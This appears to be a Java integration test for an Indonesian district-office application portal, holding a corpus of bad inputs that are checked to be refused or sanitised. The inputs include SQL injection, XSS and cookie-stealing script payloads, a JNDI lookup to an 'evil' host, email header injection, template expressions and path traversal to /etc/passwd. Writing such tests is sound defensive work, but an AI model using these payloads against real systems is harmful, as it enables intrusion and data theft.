package id.layanankecamatan.application;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import id.layanankecamatan.catalog.ServiceCatalog;
import id.layanankecamatan.support.Http;
import id.layanankecamatan.support.IntegrationTest;
import id.layanankecamatan.support.PortalClient;
import id.layanankecamatan.support.Samples;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

/**
 * The bad-input corpus of issue 9: every case is sent to the citizen API ({@code POST /api/v1/applications}) and,
 * where the portal form can express it, to the portal ({@code POST /layanan/{code}/ajukan}). Each refused case
 * gets a clear Indonesian message (API: problem+json naming the field; portal: the message on the form, the typed
 * values kept) and leaves nothing behind: no application, no attachment, no process instance.
 * <p>
 * Path-traversal file names are <b>accepted with the name sanitised</b> (files live in the database, the name is
 * only shown to staff): those cases assert the stored name instead.
 */
class BadInputCorpusTest extends IntegrationTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SIXTEEN = "NIK harus terdiri dari 16 angka.";
    private static final String INVISIBLE = " tidak boleh berisi karakter tak terlihat atau karakter kendali"
            + " (misalnya karakter lebar-nol atau pembalik arah teks).";
    private static final String EMOJI = " tidak boleh berisi emoji atau simbol.";
    private static final String NAME_CHARS = "Nama hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( )";
    private static final String ADDRESS_CHARS = "Alamat hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( )";
    private static final String VILLAGE_CHARS =
            "Desa/kelurahan hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( )";
    private static final String PURPOSE_CHARS =
            "Keperluan hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( ) : ; \" & ! ? % + @";
    private static final String FILE_TYPE = "Jenis berkas tidak didukung; unggah PDF, JPG atau PNG.";
    private static final String TOO_MANY = "Terlalu banyak berkas: paling banyak 20 berkas dalam satu pengiriman.";
    private static final String PDF_ALONE = "PDF harus dikirim sendiri: untuk satu persyaratan kirim satu PDF atau"
            + " paling banyak 4 foto.";

    @Autowired
    JdbcClient jdbc;
    @Autowired
    ServiceCatalog catalog;

    private Http http;
    private PortalClient portal;

    @BeforeEach
    void clients() {
        http = new Http(baseUrl());
        portal = new PortalClient(baseUrl());
    }

    /** Where a case can be sent: the portal has no JSON part and no service part, and its inputs are text. */
    enum Channels { BOTH, API_ONLY }

    /**
     * One bad input. {@code field}/{@code message}: the API's problem; {@code portalMessage}: what the portal page
     * says (usually the same). {@code field} null: the API answers with a {@code detail} only (the request could
     * not be read). {@code sanitisedRequirement} set: accepted, with that file's stored name sanitised.
     * {@code portalFormKept} false: the server could not read the form at all, so its upload page explains why
     * and there are no typed values to keep.
     */
    record Case(String name, Channels channels, Consumer<Request> change, String field, String message,
                String portalMessage, String sanitisedRequirement, boolean portalFormKept) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** A neutral request that both channels can send; starts as a valid Domisili application. */
    static final class Request {
        String service = "domisili";
        ObjectNode data = Samples.domisiliData();
        boolean dataPart = true;
        String rawData;
        MediaType rawDataType = MediaType.APPLICATION_JSON;
        final List<PortalClient.Part> files = new ArrayList<>(List.of(
                PortalClient.Part.file("ktp", "ktp.jpg", Samples.jpeg()),
                PortalClient.Part.file("kk", "kk.pdf", Samples.pdf("kk")),
                PortalClient.Part.file("pengantar_rt_rw", "rt.png", Samples.png())));

        Request replaceFile(String requirement, String fileName, byte[] content) {
            files.removeIf(f -> f.name().equals(requirement));
            files.add(PortalClient.Part.file(requirement, fileName, content));
            return this;
        }

        /** A valid application for another service: its sample data and one PDF per requirement. */
        Request service(ServiceCatalog catalog, String code) {
            service = code;
            Submission sample = Samples.submission(catalog.get(code));
            data.setAll((ObjectNode) sample.details());
            if (code.equals("ahli-waris")) {
                data.setAll(Samples.ahliWarisDetails());
            }
            files.clear();
            sample.files().forEach(f -> files.add(PortalClient.Part.file(f.requirementCode(), f.originalName(),
                    f.content())));
            return this;
        }
    }

    static Stream<Case> corpus() {
        return Stream.of(
                // NIK shapes
                refused("NIK too short", r -> r.data.put("nik", "12770355059"), "nik", SIXTEEN),
                refused("NIK with letters", r -> r.data.put("nik", "127703550590000A"), "nik", SIXTEEN),
                refused("NIK all letters", r -> r.data.put("nik", "ABCDEFGHIJKLMNOP"), "nik", SIXTEEN),
                refused("NIK with an impossible birth date", r -> r.data.put("nik", "1277037305900001"), "nik",
                        "Tanggal lahir pada NIK (digit ke-7 sampai ke-12) tidak valid."),
                refused("NIK with month 13", r -> r.data.put("nik", "1277031513900001"), "nik",
                        "Tanggal lahir pada NIK (digit ke-7 sampai ke-12) tidak valid."),
                refused("NIK with zero province", r -> r.data.put("nik", "0077035505900001"), "nik",
                        "Kode wilayah pada NIK tidak valid."),
                refused("NIK with zero district", r -> r.data.put("nik", "1277005505900001"), "nik",
                        "Kode wilayah pada NIK tidak valid."),
                refused("NIK with serial 0000", r -> r.data.put("nik", "1277035505900000"), "nik",
                        "Nomor urut pada NIK tidak boleh 0000."),
                refused("NIK of 17 digits", r -> r.data.put("nik", "12770355059000011"), "nik", SIXTEEN),
                refused("NIK with spaces", r -> r.data.put("nik", "1277 0355 0590 0001"), "nik", SIXTEEN),
                refused("NIK with an Arabic-Indic digit", r -> r.data.put("nik", "127703550590000\u0663"), "nik", SIXTEEN),
                refused("NIK in fullwidth digits", r -> r.data.put("nik",
                        "\uFF11\uFF12\uFF17\uFF17\uFF10\uFF13\uFF15\uFF15\uFF10\uFF15\uFF19\uFF10\uFF10\uFF10\uFF10\uFF11"),
                        "nik", SIXTEEN),
                refused("NIK with SQL", r -> r.data.put("nik", "1277035505900001' OR 1=1 --"), "nik", SIXTEEN),
                refused("NIK missing", r -> r.data.remove("nik"), "nik", "NIK wajib diisi."),
                // names
                refused("name with an emoji", r -> r.data.put("name", "Budi \uD83D\uDE00 Harahap"), "name",
                        "Nama" + EMOJI),
                refused("name with a star symbol", r -> r.data.put("name", "Budi \u2605 Harahap"), "name", "Nama" + EMOJI),
                refused("name with a zero-width space", r -> r.data.put("name", "Budi\u200BHarahap"), "name",
                        "Nama" + INVISIBLE),
                refused("name with a zero-width joiner", r -> r.data.put("name", "Budi\u200DHarahap"), "name",
                        "Nama" + INVISIBLE),
                refused("name with an RTL override", r -> r.data.put("name", "Budi \u202Epaharah"), "name",
                        "Nama" + INVISIBLE),
                refused("name with a bidi isolate", r -> r.data.put("name", "Budi \u2067Harahap\u2069"), "name",
                        "Nama" + INVISIBLE),
                refused("name with a byte-order mark", r -> r.data.put("name", "\uFEFFBudi Harahap"), "name",
                        "Nama" + INVISIBLE),
                refused("name with a bell control character", r -> r.data.put("name", "Budi\u0007Harahap"), "name",
                        "Nama" + INVISIBLE),
                refused("name with NUL", r -> r.data.put("name", "Budi\u0000Harahap"), "name", "Nama" + INVISIBLE),
                refused("name with a line break", r -> r.data.put("name", "Budi\nHarahap"), "name", "Nama" + INVISIBLE),
                refused("name with a private-use character", r -> r.data.put("name", "Budi \uE000"), "name",
                        "Nama" + INVISIBLE),
                refused("name of 10,000 characters", r -> r.data.put("name", "a".repeat(10_000)), "name",
                        "Nama terlalu panjang (paling banyak 100 karakter)."),
                refused("name of 101 characters", r -> r.data.put("name", "b".repeat(101)), "name",
                        "Nama terlalu panjang (paling banyak 100 karakter)."),
                refused("name with a script tag", r -> r.data.put("name", "<script>alert(1)</script>"), "name", NAME_CHARS),
                refused("name with an image tag", r -> r.data.put("name", "<img src=x onerror=alert(1)>"), "name",
                        NAME_CHARS),
                refused("name SQL-like", r -> r.data.put("name", "' OR 1=1 --"), "name", NAME_CHARS),
                refused("name with a DROP TABLE", r -> r.data.put("name", "Robert'); DROP TABLE application;--"), "name",
                        NAME_CHARS),
                refused("name with a ${} expression", r -> r.data.put("name", "${7*7}"), "name", NAME_CHARS),
                refused("name with a #{} expression", r -> r.data.put("name", "#{7*7}"), "name", NAME_CHARS),
                refused("name with a {{}} template", r -> r.data.put("name", "{{7*7}}"), "name", NAME_CHARS),
                refused("name with a Thymeleaf expression", r -> r.data.put("name", "*{T(java.lang.Runtime)}"), "name",
                        NAME_CHARS),
                refused("name as a Markdown link", r -> r.data.put("name", "[Terverifikasi](http://evil)"), "name",
                        NAME_CHARS),
                refused("name as a Markdown image", r -> r.data.put("name", "![x](http://evil/x.png)"), "name",
                        NAME_CHARS),
                refused("name blank", r -> r.data.put("name", "   "), "name", "Nama lengkap wajib diisi."),
                // address, village, purpose
                refused("address with an emoji", r -> r.data.put("address", "Jl. Merdeka \uD83C\uDFE0 5"), "address",
                        "Alamat" + EMOJI),
                refused("address with HTML", r -> r.data.put("address", "Jl. <b>Merdeka</b>"), "address", ADDRESS_CHARS),
                refused("address of 201 characters", r -> r.data.put("address", "c".repeat(201)), "address",
                        "Alamat terlalu panjang (paling banyak 200 karakter)."),
                refused("village with a zero-width joiner", r -> r.data.put("village", "Batunadua\u200DJulu"), "village",
                        "Desa/kelurahan" + INVISIBLE),
                refused("village with a template", r -> r.data.put("village", "{{constructor}}"), "village",
                        VILLAGE_CHARS),
                refused("purpose with a Markdown link", r -> r.data.put("purpose", "[Klik](http://evil)"), "purpose",
                        PURPOSE_CHARS),
                refused("purpose with a JNDI lookup", r -> r.data.put("purpose", "${jndi:ldap://evil/a}"), "purpose",
                        PURPOSE_CHARS),
                refused("purpose with an emoji", r -> r.data.put("purpose", "Melamar kerja \uD83D\uDE4F"), "purpose",
                        "Keperluan" + EMOJI),
                refused("purpose of 201 characters", r -> r.data.put("purpose", "d".repeat(201)), "purpose",
                        "Keperluan terlalu panjang (paling banyak 200 karakter)."),
                refused("RT with SQL", r -> r.data.put("rt", "3; DROP"), "rt", "RT wajib diisi dengan angka (misalnya 003)."),
                refused("RW with an Arabic-Indic digit", r -> r.data.put("rw", "\u0663"), "rw",
                        "RW wajib diisi dengan angka (misalnya 002)."),
                refused("email with a header injection", r -> r.data.put("email", "a@b.com\r\nBcc: x@evil.com"), "email",
                        "Alamat surel tidak valid (contoh: nama@contoh.com)."),
                refused("email with an RTL override", r -> r.data.put("email", "siti\u202E@example.com"), "email",
                        "Alamat surel tidak valid (contoh: nama@contoh.com)."),
                refused("phone with letters", r -> r.data.put("phone", "08123abc890"), "phone",
                        "Nomor HP tidak valid (contoh: 081234567890)."),
                // service-specific text
                refused("event name with a script tag", r -> r.service(CATALOG.get(), "keramaian")
                        .data.put("eventName", "<script>alert(1)</script>"), "eventName",
                        "Nama acara hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( ) : ; \" & ! ? % + @"),
                refused("heir name with an emoji", r -> ((ObjectNode) r.service(CATALOG.get(), "ahli-waris")
                        .data.withArray("heirs").get(0)).put("name", "Rosmawati \uD83D\uDE00"), "heirs[0].name",
                        "Nama" + EMOJI),
                refused("witness name as a Markdown link", r -> ((ObjectNode) r.service(CATALOG.get(), "ahli-waris")
                        .data.withArray("witnesses").get(1)).put("name", "[Saksi](http://evil)"), "witnesses[1].name",
                        "Nama hanya boleh berisi huruf, angka, spasi dan tanda . , ' / - ( ) : ; \" & ! ? % + @"),
                // wrong JSON types (the portal sends text only)
                apiOnly("NIK as a number", r -> r.data.put("nik", 123), "nik", SIXTEEN),
                apiOnly("name as an array", r -> r.data.putArray("name").add("a").add("b"), "name",
                        "Isian ini harus berupa teks, bukan daftar atau objek."),
                apiOnly("address as an object", r -> r.data.putObject("address").put("street", "x"), "address",
                        "Isian ini harus berupa teks, bukan daftar atau objek."),
                apiOnly("event name as an array", r -> r.service(CATALOG.get(), "keramaian")
                        .data.putArray("eventName").add("x"), "eventName",
                        "Nama acara harus berupa satu isian, bukan daftar atau objek."),
                apiOnly("data as a JSON array", r -> r.rawData = "[1, 2, 3]", "data",
                        "Data pemohon harus berupa objek JSON."),
                // the JSON itself
                apiOnly("1 MB of JSON", r -> r.rawData = "{\"nik\":\"" + Samples.NIK + "\",\"x\":\""
                        + "x".repeat(1024 * 1024) + "\"}", "data", "Data pemohon terlalu besar (paling banyak 100 ribu karakter)."),
                apiOnly("JSON nested 10,000 levels", r -> r.rawData = "{\"a\":".repeat(10_000) + "1"
                        + "}".repeat(10_000), "data", "Data pemohon terlalu bertingkat (paling banyak 20 tingkat)."),
                apiOnly("JSON arrays nested 10,000 levels", r -> r.rawData = "{\"a\":" + "[".repeat(10_000)
                        + "]".repeat(10_000) + "}", "data", "Data pemohon terlalu bertingkat (paling banyak 20 tingkat)."),
                apiOnly("duplicate JSON keys", r -> r.rawData = r.data.toString().replaceFirst("\\{",
                        "{\"name\":\"Budi\",") , "data", "Data pemohon memuat isian yang sama lebih dari sekali ('name')."),
                apiOnly("invalid JSON", r -> r.rawData = "{nik: 1", "data", "Data pemohon bukan JSON yang sah."),
                apiOnly("form-encoded text as a text/plain data part", r -> {
                    r.rawData = "nik=1277035505900001&name=Budi";
                    r.rawDataType = MediaType.TEXT_PLAIN;
                }, "data", "Data pemohon bukan JSON yang sah."),
                // missing parts
                new Case("no data at all", Channels.BOTH, r -> r.dataPart = false, "data",
                        "Data pemohon wajib dikirim (bagian 'data', JSON).", "NIK wajib diisi.", null, true),
                apiOnly("no service part", r -> r.service = null, "service", "Wajib diisi."),
                new Case("unknown service code", Channels.BOTH, r -> r.service = "paspor", "service",
                        "Layanan tidak dikenal.", "Halaman tidak ditemukan", null, false),
                apiOnly("service code with a path", r -> r.service = "../domisili", "service", "Layanan tidak dikenal."),
                refused("required scan missing", r -> r.files.removeIf(f -> f.name().equals("kk")), "kk",
                        "Unggah Kartu Keluarga (KK)."),
                // wrong content
                refused("an exe renamed .pdf", r -> r.replaceFile("kk", "kk.pdf", bytes("MZ\u0090\u0000 This program")),
                        "kk", FILE_TYPE),
                refused("a zip renamed .pdf", r -> r.replaceFile("kk", "kk.pdf", bytes("PK\u0003\u0004 zip")), "kk",
                        FILE_TYPE),
                refused("an HTML page renamed .pdf", r -> r.replaceFile("kk", "kk.pdf",
                        bytes("<html><script>alert(1)</script></html>")), "kk", FILE_TYPE),
                refused("an SVG renamed .png", r -> r.replaceFile("pengantar_rt_rw", "rt.png",
                        bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")), "pengantar_rt_rw",
                        FILE_TYPE),
                refused("a PDF that is also HTML", r -> r.replaceFile("kk", "kk.pdf",
                        bytes("%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n")), "kk",
                        "Berkas PDF ini juga berisi halaman web (HTML); unggah PDF hasil pindaian yang asli."),
                refused("a PDF without its end marker", r -> r.replaceFile("kk", "kk.pdf", bytes("%PDF-1.4\nhalf a file")),
                        "kk", "Berkas PDF tidak lengkap atau rusak; unggah ulang PDF hasil pindaian."),
                refused("a PNG declaring 50,000 x 50,000 pixels", r -> r.replaceFile("pengantar_rt_rw", "rt.png",
                        hugePng()), "pengantar_rt_rw", "Ukuran gambar terlalu besar (50000 x 50000 piksel); paling besar"
                        + " 12000 piksel per sisi. Perkecil foto atau pindaian."),
                refused("a JPEG declaring 50,000 x 50,000 pixels", r -> r.replaceFile("ktp", "ktp.jpg",
                        Samples.jpegDeclaring(50_000, 50_000)), "ktp",
                        "Ukuran gambar terlalu besar (50000 x 50000 piksel); paling besar 12000 piksel per sisi."
                                + " Perkecil foto atau pindaian."),
                refused("a JPEG declaring 60 megapixels (more than we decode)", r -> r.replaceFile("ktp", "ktp.jpg",
                        Samples.jpegDeclaring(10_000, 6_000)), "ktp", "Gambar terlalu besar untuk diolah (10000 x 6000"
                        + " piksel, 60 megapiksel); paling besar 50 megapiksel. Perkecil foto atau pindaian."),
                refused("a JPEG that cannot be decoded", r -> r.replaceFile("ktp", "ktp.jpg",
                        Arrays.copyOf(Samples.jpeg(), 200)), "ktp", "Gambar tidak dapat dibaca (rusak atau formatnya"
                        + " tidak didukung); unggah ulang foto JPG atau PNG biasa, atau PDF."),
                refused("a PDF over 2 MB", r -> r.replaceFile("kk", "kk.pdf",
                        Arrays.copyOf(Samples.pdf("kk"), 2 * 1024 * 1024 + 1)), "kk",
                        "Ukuran PDF melebihi 2 MB; perkecil hasil pindaian atau kirim sebagai foto."),
                refused("a photo over 10 MB", r -> r.replaceFile("ktp", "ktp.jpg",
                        Arrays.copyOf(Samples.jpeg(), 10 * 1024 * 1024 + 1)), "ktp",
                        "Ukuran berkas melebihi batas: foto paling besar 10 MB, PDF paling besar 2 MB."),
                refused("five photos of one requirement", r -> {
                    for (int i = 1; i <= 5; i++) {
                        r.files.add(PortalClient.Part.file("ktp", "ktp" + i + ".jpg", Samples.jpeg()));
                    }
                }, "ktp", "Paling banyak 4 foto untuk satu persyaratan; gabungkan halaman lainnya dalam satu PDF."),
                refused("a PDF and a photo of one requirement", r -> r.files.add(PortalClient.Part.file("kk", "kk.jpg",
                        Samples.jpeg())), "kk", PDF_ALONE),
                refused("an empty file", r -> r.replaceFile("ktp", "ktp.jpg", new byte[0]), "ktp",
                        "Berkas kosong; pilih ulang berkas hasil pindaian."),
                refused("50 file parts", r -> {
                    for (int i = 0; i < 50; i++) {
                        r.files.add(PortalClient.Part.file("lampiran" + i, "l" + i + ".png", Samples.png()));
                    }
                }, "files", TOO_MANY),
                // beyond server.tomcat.max-part-count the container refuses the request before any part is kept
                unreadable("100 file parts", r -> {
                    for (int i = 0; i < 100; i++) {
                        r.files.add(PortalClient.Part.file("lampiran" + i, "l" + i + ".png", Samples.png()));
                    }
                }, "files", TOO_MANY, TOO_MANY),
                // beyond spring.servlet.multipart.max-file-size: refused while reading, no field to name
                unreadable("a 17 MB file", r -> r.replaceFile("ktp", "ktp.jpg", Arrays.copyOf(Samples.jpeg(),
                        17 * 1024 * 1024)), null, "Kirim permohonan sebagai multipart/form-data dengan foto paling"
                        + " besar 10 MB dan PDF paling besar 2 MB.", "foto paling besar 10 MB, PDF paling"),
                refused("a file no requirement asks for", r -> r.files.add(PortalClient.Part.file("foto", "foto.png",
                        Samples.png())), "foto", "Berkas 'foto' bukan persyaratan layanan ini."),
                refused("the same PDF twice", r -> r.files.add(PortalClient.Part.file("kk", "kk2.pdf", Samples.pdf("2"))),
                        "kk", PDF_ALONE),
                // path traversal in file names: accepted, the stored name is sanitised
                sanitised("a file name climbing to /etc/passwd", r -> r.replaceFile("kk", "../../etc/passwd.pdf",
                        Samples.pdf("kk")), "kk"),
                sanitised("a file name with backslashes", r -> r.replaceFile("kk", "..\\..\\x.pdf", Samples.pdf("kk")),
                        "kk"),
                // Tomcat refuses a NUL in a file name before the form is read: refused, the form cannot be kept
                unreadable("a file name with NUL", r -> r.replaceFile("kk", "kk.pdf\u0000.exe", Samples.pdf("kk")),
                        "files", MultipartUploads.BAD_FILE_NAME, MultipartUploads.BAD_FILE_NAME),
                sanitised("a file name with markup", r -> r.replaceFile("kk", "<img src=x onerror=alert(1)>.pdf",
                        Samples.pdf("kk")), "kk"));
    }

    static Stream<Case> apiCases() {
        return corpus();
    }

    static Stream<Case> portalCases() {
        return corpus().filter(c -> c.channels() == Channels.BOTH);
    }

    @Test
    void theCorpusHasAtLeastSixtyCasesForEachChannel() {
        assertThat(apiCases().count()).isGreaterThanOrEqualTo(60);
        assertThat(portalCases().count()).isGreaterThanOrEqualTo(60);
    }

    @ParameterizedTest(name = "API: {0}")
    @MethodSource("apiCases")
    void api(Case badInput) throws Exception {
        Request request = request(badInput);
        Counts before = counts();

        ResponseEntity<String> answer = http.postMultipart("/api/v1/applications", apiParts(request), h -> { });

        if (badInput.sanitisedRequirement() != null) {
            assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.CREATED);
            assertSanitised(JSON.readTree(answer.getBody()).get("registrationNumber").asText(), badInput);
            return;
        }
        assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(answer.getHeaders().getContentType()).hasToString("application/problem+json");
        JsonNode problem = JSON.readTree(answer.getBody());
        assertThat(problem.has("trace")).isFalse();
        if (badInput.field() == null) {
            assertThat(problem.get("detail").asText()).isEqualTo(badInput.message());
        } else {
            assertThat(problem.get("errors")).as(answer.getBody()).anySatisfy(error -> {
                assertThat(error.get("field").asText()).isEqualTo(badInput.field());
                assertThat(error.get("message").asText()).isEqualTo(badInput.message());
            });
        }
        assertThat(counts()).isEqualTo(before);
    }

    @ParameterizedTest(name = "portal: {0}")
    @MethodSource("portalCases")
    void portal(Case badInput) throws Exception {
        Request request = request(badInput);
        Counts before = counts();
        String form = "/layanan/domisili/ajukan".replace("domisili",
                catalog.find(request.service).isPresent() ? request.service : "domisili");

        HttpResponse<String> answer = portal.submit(form, "/layanan/" + request.service + "/ajukan",
                portalParts(request));

        if (badInput.sanitisedRequirement() != null) {
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(302);
            assertThat(answer.headers().firstValue("Location").orElseThrow()).endsWith("/tanda-terima");
            String number = jdbc.sql("SELECT registration_number FROM application ORDER BY id DESC LIMIT 1")
                    .query(String.class).single();
            assertSanitised(number, badInput);
            return;
        }
        String page = PortalClient.unescape(answer.body());
        assertThat(page).as(answer.body()).contains(badInput.portalMessage());
        if (badInput.portalMessage().equals("Halaman tidak ditemukan")) {
            assertThat(answer.statusCode()).isEqualTo(404);
        } else if (!badInput.portalFormKept()) {
            // the server could not read the form at all: its page says why, there are no values to keep
            assertThat(answer.statusCode()).isIn(400, 413);
            assertThat(page).contains("Isian formulir tidak tersimpan");
        } else {
            assertThat(answer.statusCode()).isEqualTo(400);
            // the typed values are kept on the form
            for (String input : List.of("nik", "name", "address", "village", "purpose")) {
                JsonNode sent = request.dataPart ? request.data.get(input) : null;
                assertThat(Objects.toString(PortalClient.inputValue(answer.body(), input), "")).as(input)
                        .isEqualTo(sent == null ? "" : sent.asText());
            }
        }
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void aPdfWithHtmlFurtherInsideIsServedToStaffOnlyAsPdfWithNosniff() throws Exception {
        byte[] polyglot = Arrays.copyOf(Samples.pdf("scan"), 3000);
        byte[] html = ("\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
        polyglot = ByteBuffer.allocate(polyglot.length + html.length).put(polyglot).put(html).array();
        Request request = new Request().replaceFile("kk", "kk.html", polyglot);
        ResponseEntity<String> created = http.postMultipart("/api/v1/applications", apiParts(request), h -> { });
        assertThat(created.getStatusCode()).isEqualTo(HttpStatus.CREATED);
        String number = JSON.readTree(created.getBody()).get("registrationNumber").asText();
        Map<String, Object> stored = jdbc.sql("""
                SELECT t.id, t.content_type, t.file_name FROM attachment t JOIN application a ON a.id = t.application_id
                WHERE a.registration_number = ? AND t.requirement_code = 'kk'""").param(number).query().singleRow();
        assertThat(stored.get("content_type")).isEqualTo("application/pdf");
        // the officer may read the scans once the verification task is his (security review H2)
        id.layanankecamatan.support.Jobs.runDue(processEngine, number);

        ResponseEntity<byte[]> served = http.getBytes("/staff/applications/" + number + "/attachments/"
                + stored.get("id"), h -> h.set(HttpHeaders.AUTHORIZATION, Http.basic("petugas", "demo")));

        assertThat(served.getStatusCode()).isEqualTo(HttpStatus.OK);
        assertThat(served.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PDF);
        assertThat(served.getHeaders().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(served.getHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION)).startsWith("inline");
        assertThat(served.getBody()).isEqualTo(polyglot);
    }

    private void assertSanitised(String registrationNumber, Case accepted) {
        String name = jdbc.sql("""
                SELECT t.file_name FROM attachment t JOIN application a ON a.id = t.application_id
                WHERE a.registration_number = ? AND t.requirement_code = ?""")
                .param(registrationNumber).param(accepted.sanitisedRequirement()).query(String.class).single();
        assertThat(name).matches("[A-Za-z0-9_.\\- ]+").doesNotContain("/", "\\", "\u0000", "<");
    }

    private Request request(Case badInput) {
        CATALOG.set(catalog);
        Request request = new Request();
        badInput.change().accept(request);
        return request;
    }

    private static MultiValueMap<String, Object> apiParts(Request request) {
        MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
        if (request.service != null) {
            parts.add("service", request.service);
        }
        if (request.dataPart) {
            HttpHeaders headers = new HttpHeaders();
            headers.setContentType(request.rawDataType);
            parts.add("data", new HttpEntity<>(request.rawData != null ? request.rawData : request.data.toString(),
                    headers));
        }
        for (PortalClient.Part file : request.files) {
            parts.add(file.name(), new ByteArrayResource(file.content()) {
                @Override
                public String getFilename() {
                    return file.fileName();
                }
            });
        }
        return parts;
    }

    /** The form as a browser sends it: the applicant's and the service's inputs as text, lists as name[i].column. */
    private static List<PortalClient.Part> portalParts(Request request) {
        List<PortalClient.Part> parts = new ArrayList<>();
        if (request.dataPart) {
            request.data.fields().forEachRemaining(field -> {
                if (field.getValue().isArray()) {
                    ArrayNode rows = (ArrayNode) field.getValue();
                    for (int i = 0; i < rows.size(); i++) {
                        int row = i;
                        rows.get(i).fields().forEachRemaining(column -> parts.add(PortalClient.Part.text(
                                "%s[%d].%s".formatted(field.getKey(), row, column.getKey()), column.getValue().asText())));
                    }
                } else {
                    parts.add(PortalClient.Part.text(field.getKey(), field.getValue().asText()));
                }
            });
        }
        parts.addAll(request.files);
        return parts;
    }

    private record Counts(long applications, long attachments, long started, long running) {
    }

    private Counts counts() {
        return new Counts(jdbc.sql("SELECT COUNT(*) FROM application").query(Long.class).single(),
                jdbc.sql("SELECT COUNT(*) FROM attachment").query(Long.class).single(),
                processEngine.getHistoryService().createHistoricProcessInstanceQuery().count(),
                processEngine.getRuntimeService().createProcessInstanceQuery().count());
    }

    /** The catalogue for cases that switch the service (the case list is static, the catalogue a bean). */
    private static final ThreadLocal<ServiceCatalog> CATALOG = new ThreadLocal<>();

    private static Case refused(String name, Consumer<Request> change, String field, String message) {
        return new Case(name, Channels.BOTH, change, field, message, message, null, true);
    }

    private static Case apiOnly(String name, Consumer<Request> change, String field, String message) {
        return new Case(name, Channels.API_ONLY, change, field, message, null, null, false);
    }

    private static Case sanitised(String name, Consumer<Request> change, String requirement) {
        return new Case(name, Channels.BOTH, change, null, null, null, requirement, true);
    }

    private static Case unreadable(String name, Consumer<Request> change, String field, String message,
                                   String portalMessage) {
        return new Case(name, Channels.BOTH, change, field, message, portalMessage, null, false);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A real 1 x 1 PNG whose header (IHDR, CRC fixed) declares 50 000 x 50 000 pixels. */
    static byte[] hugePng() {
        byte[] png = encode("png");
        ByteBuffer buffer = ByteBuffer.wrap(png);
        // signature (8), length (4), "IHDR" (4), width, height
        buffer.putInt(16, 50_000).putInt(20, 50_000);
        CRC32 crc = new CRC32();
        crc.update(png, 12, 4 + 13);
        buffer.putInt(12 + 4 + 13, (int) crc.getValue());
        return png;
    }


    private static byte[] encode(String format) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(1, 1, BufferedImage.TYPE_INT_RGB), format, out);
            return out.toByteArray();
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
